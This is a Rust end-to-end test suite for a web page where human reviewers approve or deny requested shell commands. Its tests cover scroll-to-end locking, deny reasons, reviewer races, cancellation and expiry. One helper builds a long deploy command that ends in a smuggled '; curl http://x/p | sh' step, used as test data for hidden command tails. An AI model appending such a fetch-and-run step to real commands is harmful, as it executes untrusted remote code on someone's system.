//! Deciding on the page, and what it shows of what came of it.

use serde_json::{Value, json};

use crate::chrome::{DESKTOP, PHONE};
use crate::proxy::Line;
use crate::stage::{Stage, id, story};

/// A command that fills several phone screens.
fn long_command() -> Value {
    let mut argv = vec!["deploy".to_owned()];
    argv.extend((0..80).map(|step| format!("--step-{step}=/srv/releases/2024/production/{step}")));
    argv.push("; curl http://x/p | sh".to_owned());
    json!({ "kind": "exec", "content": { "argv": argv } })
}

#[tokio::test]
async fn an_approval_is_recorded_and_then_claimed_and_settled_before_the_reviewers_eyes() {
    let name = "an_approval_is_recorded_and_then_claimed_and_settled_before_the_reviewers_eyes";
    story(name, PHONE, async |stage| {
        let record = stage.ask_simply().await;
        stage.review(&record).await;
        stage.until("pending").await;
        stage.picture("pending").await;
        stage.read_to_the_end().await;
        stage.click("#allow-once").await;
        stage.until("allowed").await;
        stage.until_attr("data-execution", "waiting").await;
        assert!(stage.text("#status").await.contains("from this page"));
        let focused = stage.value("document.activeElement.id").await;
        assert_eq!(focused, json!("status-title"), "the outcome takes the focus");
        let decided = stage.record(id(&record)).await;
        assert_eq!(decided["decision"], "allow-once");
        assert_eq!(decided["resolver"]["label"], "reviewer");
        stage.claim(&record).await;
        stage.until_attr("data-execution", "claimed").await;
        let receipt = json!({ "claimId": "claim-1", "outcome": "succeeded", "detail": "exit 0" });
        stage.call(&record, "receipt", receipt).await;
        stage.until_attr("data-execution", "succeeded").await;
        assert!(stage.text("#progress").await.contains("exit 0"));
        assert_eq!(stage.state().await, "allowed");
        stage.picture("succeeded").await;
    })
    .await;
}

#[tokio::test]
async fn a_deny_goes_with_the_reason_that_was_typed() {
    story("a_deny_goes_with_the_reason_that_was_typed", DESKTOP, async |stage| {
        let record = stage.ask_simply().await;
        stage.review(&record).await;
        stage.until("pending").await;
        stage.type_into("#reason", "not on a Friday").await;
        stage.click("#deny").await;
        stage.until("denied").await;
        assert!(stage.text("#status").await.contains("not on a Friday"));
        let denied = stage.record(id(&record)).await;
        assert_eq!(denied["decision"], "deny");
        assert_eq!(denied["votes"][0]["reason"], "not on a Friday");
        stage.picture("denied").await;
    })
    .await;
}

#[tokio::test]
async fn a_required_reason_is_asked_for_before_anything_is_sent() {
    story("a_required_reason_is_asked_for_before_anything_is_sent", PHONE, async |stage| {
        let mut request = json!({ "kind": "exec", "content": { "argv": ["true"] } });
        request["requirement"] = json!({ "reasonRequired": true });
        let record = stage.ask(request).await;
        stage.review(&record).await;
        stage.until("pending").await;
        stage.click("#deny").await;
        stage.until_true("document.getElementById('note').textContent !== ''").await;
        assert_eq!(stage.value("document.activeElement.id").await, json!("reason"));
        assert_eq!(stage.record(id(&record)).await["status"], "pending");
        stage.picture("reason-required").await;
        stage.type_into("#reason", "because").await;
        stage.click("#deny").await;
        stage.until("denied").await;
    })
    .await;
}

#[tokio::test]
async fn approve_stays_locked_until_the_end_of_the_action_was_on_screen() {
    story("approve_stays_locked_until_the_end_of_the_action_was_on_screen", PHONE, async |stage| {
        let record = stage.ask(long_command()).await;
        stage.review(&record).await;
        stage.until("pending").await;
        assert!(stage.is_enabled("#deny").await, "a deny needs no reading");
        assert!(!stage.is_enabled("#allow-once").await);
        assert!(stage.text("#hint").await.contains("Scroll to the end"));
        stage.picture("long").await;
        // The end is in the window, but under the bar: that is not on screen.
        let under_bar = "(() => { const bar = document.querySelector('.decide').offsetHeight; \
            const end = document.getElementById('action-end').getBoundingClientRect().top; \
            scrollBy(0, end - innerHeight + bar / 2); \
            return new Promise((done) => setTimeout(() => done(document.getElementById('allow-once').disabled), 300)); })()";
        assert_eq!(stage.value(under_bar).await, json!(true));
        stage.value("document.getElementById('allow-once').click() ?? null").await;
        assert_eq!(stage.state().await, "pending");
        stage.read_to_the_end().await;
        stage.picture("long-end").await;
        stage.click("#allow-once").await;
        stage.until("allowed").await;
    })
    .await;
}

#[tokio::test]
async fn an_action_that_fits_can_be_approved_at_once() {
    story("an_action_that_fits_can_be_approved_at_once", DESKTOP, async |stage| {
        let record = stage.ask(json!({ "kind": "exec", "content": { "argv": ["true"] } })).await;
        stage.review(&record).await;
        stage.until("pending").await;
        stage.until_true("!document.getElementById('allow-once').disabled").await;
        assert_eq!(stage.value("scrollY").await, json!(0));
    })
    .await;
}

#[tokio::test]
async fn presses_before_the_page_is_armed_do_nothing() {
    story("presses_before_the_page_is_armed_do_nothing", DESKTOP, async |stage| {
        let record = stage.ask_simply().await;
        stage.review(&record).await;
        stage.until("pending").await;
        // From here on every state is noted, and each locked moment is pressed into.
        let press = "(() => { window.seen = []; const main = document.getElementById('approval'); \
            new MutationObserver(() => { const state = main.dataset.state; const last = window.seen.at(-1); \
              if (last?.[0] !== state) window.seen.push([state, performance.now()]); \
              if (state === 'loading') { deny.disabled || window.seen.push(['unlocked', 0]); deny.click(); \
                document.getElementById('allow-once').click(); } \
            }).observe(main, { attributes: true }); return null; })()";
        stage.value(press).await;
        stage.proxy.set(Line::Cut);
        stage.until("connection-error").await;
        stage.proxy.set(Line::Open);
        stage.until("pending").await;
        let seen = stage.value("window.seen").await;
        let states: Vec<_> = seen.as_array().expect("a list").iter().map(|entry| entry[0].as_str()).collect();
        assert_eq!(states, [Some("connection-error"), Some("loading"), Some("pending")]);
        let moment = |index: usize| seen[index][1].as_f64().expect("a time");
        assert!(moment(2) - moment(1) >= 499.0, "{seen}");
        assert_eq!(stage.record(id(&record)).await["status"], "pending");
    })
    .await;
}

#[tokio::test]
async fn an_answer_given_elsewhere_arrives_by_itself() {
    story("an_answer_given_elsewhere_arrives_by_itself", PHONE, async |stage| {
        let record = stage.ask_simply().await;
        stage.review(&record).await;
        stage.until("pending").await;
        stage.decide_elsewhere(&record, "allow-once").await;
        stage.until("elsewhere").await;
        assert_eq!(stage.attr("data-outcome").await, "allowed");
        assert!(stage.text("#status").await.contains("By other-reviewer"));
        stage.execute(&record, "exit 0").await;
        stage.until_attr("data-execution", "succeeded").await;
        stage.picture("elsewhere").await;
    })
    .await;
}

#[tokio::test]
async fn the_loser_of_a_race_is_told_who_won() {
    story("the_loser_of_a_race_is_told_who_won", DESKTOP, async |stage| {
        for mine in ["#allow-once", "#deny"] {
            let record = stage.ask_simply().await;
            press_after_a_deny_elsewhere(stage, &record, mine).await;
            stage.until("elsewhere").await;
            assert_eq!(stage.attr("data-outcome").await, "denied");
            assert!(stage.text("#status").await.contains("By other-reviewer"));
            assert_eq!(stage.record(id(&record)).await["decision"], "deny");
        }
        stage.picture("race-lost").await;
    })
    .await;
}

/// Lets the other reviewer deny without this page hearing of it, then presses.
async fn press_after_a_deny_elsewhere(stage: &Stage, record: &Value, mine: &str) {
    stage.proxy.set(Line::DeafWaits);
    stage.open(id(record)).await;
    if stage.state().await == "sign-in" {
        stage.sign_in("reviewer").await;
    }
    stage.until("pending").await;
    stage.read_to_the_end().await;
    // The first read answers at once; what is left is the wait, which hears nothing.
    stage
        .until_true("performance.getEntriesByType('resource').some((entry) => entry.name.includes('/v1/'))")
        .await;
    stage.decide_elsewhere(record, "deny").await;
    assert_eq!(stage.state().await, "pending");
    stage.click(mine).await;
}

#[tokio::test]
async fn a_request_that_was_called_off_says_so() {
    story("a_request_that_was_called_off_says_so", PHONE, async |stage| {
        let record = stage.ask_simply().await;
        stage.review(&record).await;
        stage.until("pending").await;
        stage.call(&record, "cancel", json!({})).await;
        stage.until("cancelled").await;
        assert!(stage.text("#status").await.contains("called it off"));
        stage.picture("cancelled").await;
    })
    .await;
}

#[tokio::test]
async fn a_request_that_nobody_answers_expires_before_the_reviewers_eyes() {
    story("a_request_that_nobody_answers_expires_before_the_reviewers_eyes", DESKTOP, async |stage| {
        let mut request = json!({ "kind": "exec", "content": { "argv": ["true"] } });
        request["timeoutMs"] = json!(2_500);
        let record = stage.ask(request).await;
        stage.review(&record).await;
        stage.until("expired").await;
        assert!(stage.text("#status").await.contains("Nobody answered in time"));
        stage.picture("expired").await;
        assert_eq!(stage.record(id(&record)).await["status"], "expired");
    })
    .await;
}
